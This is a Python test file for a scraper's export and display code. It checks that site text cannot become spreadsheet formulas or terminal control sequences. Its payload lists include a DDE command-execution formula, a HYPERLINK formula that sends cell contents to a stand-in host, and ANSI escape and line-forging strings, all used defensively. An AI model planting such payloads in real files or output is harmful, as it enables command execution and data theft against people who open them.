"""Rows 29 and 30 of the scorecard: a site's text is no formula in a spreadsheet and no command on a terminal."""

from __future__ import annotations

import csv
import io
import json
import logging
import re

import openpyxl
from hypothesis import given
from hypothesis import strategies as st

from db.query import Result
from scraper.display import print_error, print_line, print_warning, write_rows
from scraper.errors import NavnenytError
from scraper.formats import Format
from scraper.logs import JsonLines
from scraper.show.cells import markdown, neutral, write_csv
from scraper.show.export import FileFormat, table_of, write_file
from scraper.show.text import as_json, on_one_line, shown

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "＝1+1",
    '=HYPERLINK("http://x.example/?"&A1;"klik")',
    "=cmd|' /C calc'!A0",
    "Nordlys;=1+1",
    'Nordlys";=1+1;"',
    "Nordlys\t+1",
    "-=1",
]


def spreadsheet(text: str, separator: str) -> list[list[str]]:
    """The cells that a spreadsheet makes of a CSV file whose columns it parts at `separator`."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would work a cell out: white space and quotes before the sign do not keep it from that."""
    return re.match(r'[\s"]*[=+\-@＝＋－＠]', cell) is not None


def formulas(rows: list[list[object]], *, guarded: bool) -> int:
    """How many cells of the file would be worked out, read with either separator."""
    out = io.StringIO()
    if guarded:
        write_csv(out, ["a", "b"], rows)
    else:
        writer = csv.writer(out, lineterminator="\n")
        writer.writerows([["a", "b"], *rows])
    cells = [cell for mark in ",;\t" for row in spreadsheet(out.getvalue(), mark) for cell in row]
    return sum(is_formula(cell) for cell in cells)


def test_row_29_no_cell_of_a_csv_file_is_a_formula(record_property):
    """Cells that begin like a formula, in any disguise and with any separator, are text; without the guard they are not."""
    rows: list[list[object]] = [["navn", payload] for payload in PAYLOADS]
    found, without = formulas(rows, guarded=True), formulas(rows, guarded=False)
    record_property(
        "scorecard",
        f"29|formulas in a CSV of {len(PAYLOADS)} payloads, read with , ; and tab|{found} are worked out|{without} without the guard",
    )
    assert found == 0
    assert without >= len(PAYLOADS)


def test_row_29_no_cell_of_an_excel_file_is_a_formula(tmp_path, record_property, monkeypatch):
    """Every text of a site is a cell of text, also one that looks like a formula, a link or a number."""
    texts = [*PAYLOADS, "https://x.example/", "0045 12345678", "1e5", "{=1+1}"]
    path = tmp_path / "a.xlsx"

    def kinds() -> list[str]:
        write_file(table_of("t", Result(("a",), [(text,) for text in texts])), FileFormat.XLSX, path)
        sheet = openpyxl.load_workbook(path).active
        return [cell.data_type for (cell,) in sheet.iter_rows(min_row=2)]

    found = kinds().count("f")
    assert kinds() == ["s"] * len(texts)
    monkeypatch.setattr(
        "scraper.show.export._write",
        lambda sheet, row, column, value, _form: (
            sheet.write_formula(row, column, value) if value.startswith("=") else sheet.write(row, column, value)
        ),
    )
    without = kinds().count("f")
    record_property("scorecard", f"29|formulas in an Excel file|{found}|{without} without the guard")
    assert without >= 3


@given(st.lists(st.text(alphabet="=+-@\t\r\n;,\"' aå1", max_size=12), min_size=1, max_size=4))
def test_no_text_becomes_a_formula_and_ordinary_text_stays(cells):
    """Of any text, read with commas or semicolons, no cell is worked out; text without a sign is as it was."""
    out = io.StringIO()
    write_csv(out, ["a"] * len(cells), [cells])
    for mark in ",;":
        assert not any(is_formula(cell) for row in spreadsheet(out.getvalue(), mark) for cell in row if row[0] != "a")
    for cell in cells:
        if not set(cell) & set("=+-@\t\r"):
            assert neutral(cell) == cell


def test_numbers_and_nothing_are_left_alone():
    """A number below zero is a number."""
    assert (neutral(-5), neutral(-0.5), neutral(None), neutral("Åse - chef")) == (-5, -0.5, "", "Åse - chef")


HOSTILE = [
    "\x1b[31mRød\x1b[0m",
    "\x1b]0;titel\x07",
    "\x9b2J",
    "Åse\nError: alt er tabt",
    "Åse\rBo",
    "\u202eesÅ",
    "A\x00B\x08\x7f",
    "\u2028linje",
]


def commands(text: str) -> int:
    """How many characters of an output a terminal would obey, line feeds aside."""
    return sum(not character.isprintable() for character in text.replace("\n", ""))


def test_row_30_nothing_that_a_site_said_moves_the_cursor_or_forges_a_line(capsys, record_property, monkeypatch):
    """Tables, Markdown, JSON, errors, warnings, lines and the log: no control character of a name, no line more."""
    rows = [[name, 1] for name in HOSTILE]

    def out() -> tuple[int, int]:
        for form in (Format.TABLE, Format.MARKDOWN, Format.JSON, Format.JSONL):
            write_rows(["navn", "antal"], rows, form, title=HOSTILE[0])
        for name in HOSTILE:
            print_line(f"x {shown(name)}")
            print_warning(name)
            print_error(NavnenytError(name.replace("\n", " "), hint=name))
        said = capsys.readouterr()
        text = said.out + said.err
        return commands(text), sum(line.startswith("Error: alt er tabt") for line in text.splitlines())

    found, forged = out()
    log = logging.LogRecord("navnenyt", logging.INFO, "", 0, "page %s", (HOSTILE[3],), None)
    logged = JsonLines().format(log)
    with monkeypatch.context() as bare:
        for room in ("scraper.display", "scraper.show.cells"):
            bare.setattr(f"{room}.shown", str)
        bare.setattr("scraper.display.as_json", lambda value, **more: json.dumps(value, ensure_ascii=False, **more))
        without, _ = out()
    record_property(
        "scorecard",
        f"30|terminal commands out of {len(HOSTILE)} hostile names, printed in 9 ways|{found} reach the terminal, {forged} forged lines"
        f"|{without} reach it without the guard",
    )
    assert (found, forged) == (0, 0)
    assert commands(logged) == 0
    assert "\n" not in logged
    assert without > 0


def test_text_in_markdown_is_text():
    """No mark in a cell means anything."""
    assert markdown("a|b") == r"a\|b"
    assert markdown("[x](http://y.example)") == r"\[x\](http://y.example)"
    assert markdown("<b>_*`") == r"\<b\>\_\*\`"


def test_lines_become_one():
    """A text of several lines is one line, parted by dots."""
    assert on_one_line("Nordlys\n\nTester \nFyn") == "Nordlys · Tester · Fyn"


@given(st.text())
def test_json_stays_json_and_can_be_printed(text):
    """Escaping loses nothing."""
    assert json.loads(as_json({"a": text})) == {"a": text}
    assert "\x9b" not in as_json(text)
